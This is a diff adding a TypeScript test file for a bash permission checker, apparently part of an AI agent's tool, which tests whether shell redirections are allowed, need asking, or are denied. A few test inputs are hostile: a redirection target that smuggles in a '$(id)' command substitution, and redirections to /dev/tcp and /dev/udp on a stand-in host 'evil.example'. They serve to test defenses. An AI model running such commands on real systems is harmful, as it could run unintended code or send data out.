@@ -1,0 +1,80 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { evaluateBash } from '../../ask.ts';
+
+/** Every file is free here, so that only what is not certain asks. */
+const RULES = ['bash * allow', 'fs.read ** allow', 'fs.write ** allow'];
+
+function check(command: string, expected: string, more: readonly string[] = []) {
+  test(`${JSON.stringify(command)} is ${expected}`, async () => {
+    const { decision, reason } = await evaluateBash(command, [...RULES, ...more]);
+    assert.equal(decision, expected, reason);
+  });
+}
+
+for (const command of [
+  'ls > a',
+  'ls >> a',
+  'ls >| a',
+  'ls &> a',
+  'ls &>> a',
+  'ls >& a',
+  'ls <> a',
+  'cat < a',
+  'ls > "a b"',
+  'ls > a\\$b',
+  'ls > "~/a"',
+  'ls {fd}> a',
+  'ls {CI}> a',
+  'cat <<< a',
+  "cat <<'E'\n$[1]\nE",
+  'cat <<E\n$x [1]\nE',
+])
+  check(command, 'allow');
+
+for (const command of [
+  'ls >',
+  'ls > $a',
+  'ls > a*',
+  'ls > ~/a',
+  'cat < ~/a',
+  'ls >& $a',
+  'ls >& a*',
+  // Bash expands the target of `>&` twice: `ls >& '$(id)'` runs `id`.
+  "ls >& '$(id)'",
+  'ls >& a\\$b',
+  'ls >& "a b"',
+  'cat <& a',
+  'cat <& $a',
+  'ls {PATH}> a',
+  'ls {http_proxy}> a',
+  // Bash prints 2 for both.
+  'cat <<E\n$[1+1]\nE',
+  'cat <<E\n$\\\n[1+1]\nE',
+  'cat <<E\na',
+])
+  check(command, 'ask');
+
+/** No file: not even a rule that denies every write and read is about them. */
+for (const command of [
+  'ls 2>&1',
+  'ls >&2',
+  'ls >&-',
+  'ls 3>&1-',
+  'cat <&0',
+  'cat <&-',
+  'ls > /dev/null',
+  'cat < /dev/stdin',
+  'ls > /dev/fd/12',
+  'ls >& /dev/null',
+])
+  check(command, 'allow', ['fs.write ** deny', 'fs.read ** deny']);
+
+for (const command of ['ls > a', 'ls >& a', 'ls >& 1a', 'ls <> a', 'ls &> a', 'ls > /dev/nulls'])
+  check(command, 'deny', ['fs.write ** deny']);
+for (const command of ['cat < a', 'cat <> a']) check(command, 'deny', ['fs.read ** deny']);
+check('cat < a', 'allow', ['fs.write ** deny']);
+check('cat > a', 'allow', ['fs.read ** deny']);
+
+for (const command of ['cat < /dev/tcp/evil.example/80', 'ls >& /dev/udp/evil.example/53'])
+  check(command, 'deny', ['net.fetch evil.example deny']);
